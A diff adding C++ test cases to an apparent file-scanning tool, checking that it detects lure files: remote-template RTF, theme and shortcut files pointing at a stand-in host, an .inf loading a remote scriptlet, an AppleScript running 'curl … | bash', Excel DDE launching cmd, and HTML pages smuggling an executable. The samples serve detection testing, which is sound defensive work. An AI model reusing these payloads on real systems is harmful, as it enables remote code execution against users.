@@ -127,6 +127,57 @@ TEST_CASE("consoles and addresses that start something are told, ordinary ones a
   }
 }
 
+TEST_CASE("small files that fetch something by themselves are told") {
+  struct Row {
+    std::string name, bytes, trait;
+  };
+  const std::string spelled = "{\\rtf1\\uc1{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?//far.example.com/a.dotm}x}";
+  const Row rows[] = {
+      {"a.rtf", spelled, "office.remote_template"},
+      {"a.theme", "[Theme]\r\nDisplayName=x\r\n[VisualStyles]\r\nPath=\\\\far.example.com\\s\\a.msstyles\r\n", "shortcut.remote_target"},
+      {"a.asx", "<asx version=\"3.0\"><entry><ref href=\"file://far.example.com/s/a.mp3\"/></entry></asx>", "shortcut.remote_target"},
+      {"a.search-ms", "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"\\\\far.example.com\\s\"/></scope></query></persistedQuery>", "shortcut.remote_target"},
+      {"a.jnlp", "<jnlp codebase=\"https://far.example.com\"><resources><jar href=\"a.jar\"/></resources></jnlp>", "shortcut.remote_program"},
+      {"a.application", "<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment><deploymentProvider codebase=\"https://far.example.com/a.application\"/></deployment></asmv1:assembly>", "shortcut.remote_program"},
+      {"a.appinstaller", "<?xml version=\"1.0\"?><AppInstaller Uri=\"https://far.example.com/a.appinstaller\"><MainPackage Uri=\"https://far.example.com/a.msix\"/></AppInstaller>", "shortcut.remote_program"},
+      {"a.odc", "<html><odc:OfficeDataConnection xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><odc:ConnectionString>Provider=x;Data Source=https://far.example.com</odc:ConnectionString></odc:OfficeDataConnection></html>", "office.external_data"},
+      {"a.inf", "[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=U\r\n[U]\r\n%11%\\scrobj.dll,NI,https://far.example.com/a.sct\r\n", "script.shell"},
+      {"a.applescript", "do shell script \"curl -s https://far.example.com/a | bash\"", "script.shell"},
+      {"a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>x</text></a></svg>", "svg.script"},
+      {"a.xml", "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\"></w:wordDocument>", "office.macro"},
+      {"b.xml", "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>", "office.dde"},
+  };
+  for (const auto& row : rows) {
+    CAPTURE(row.name);
+    CHECK(has_trait(read_bytes(row.bytes, row.name), row.trait));
+  }
+  CHECK_FALSE(has_trait(read_bytes("[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\a.jpg\r\n", "a.theme"), "shortcut.remote_target"));
+  CHECK_FALSE(has_trait(read_bytes("<asx version=\"3.0\"><entry><ref href=\"https://far.example.com/a.mp3\"/></entry></asx>", "a.asx"), "shortcut.remote_target"));
+}
+
+TEST_CASE("a file that a page hands out is found as numbers, as hexadecimal digits and in a link") {
+  const std::string file = "MZ" + std::string(100, '\x01');
+  std::string numbers, hexadecimal, digits;
+  for (const char c : file) {
+    numbers += std::to_string(static_cast<unsigned char>(c)) + ", ";
+    const std::string pair{"0123456789abcdef"[static_cast<unsigned char>(c) >> 4], "0123456789abcdef"[c & 15]};
+    hexadecimal += "0x" + pair + ",";
+    digits += pair;
+  }
+  const std::string pages[] = {"<script>saveAs(new Blob([new Uint8Array([" + numbers + "])]), 'a.exe')</script>",
+                               "<script>var a = [" + hexadecimal + "]; l.href = URL.createObjectURL(new Blob([new Uint8Array(a)]))</script>",
+                               "<script>var a = '" + digits + "'; l.href = URL.createObjectURL(new Blob([of(a)]))</script>",
+                               "<a href=\"data:application/octet-stream;base64," + to_base64(file) + "\" download=a.exe>x</a>"};
+  for (const auto& page : pages) {
+    CAPTURE(page);
+    const auto html = "<!DOCTYPE html><html><body>" + page + "</body></html>";
+    const auto document = read_bytes(html, "a.html");
+    CHECK(has_trait(document, "html.smuggling"));
+    CHECK(std::any_of(document.parts.begin(), document.parts.end(), [&](const Part& part) { return part.data == file; }));
+  }
+  CHECK_FALSE(has_trait(read_bytes("<!DOCTYPE html><html><body><script>var points = [" + numbers.substr(8) + "]; draw(points)</script></body></html>", "a.html"), "html.script_payload"));
+}
+
 TEST_CASE("a PDF that opens a page by itself or takes its bytes from a share is cleaned of it") {
   const std::string pdf = "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://self.example.com/)>> >> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
                           "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(https://link.example.com/)>> >>]/Contents 4 0 R>> endobj\n"
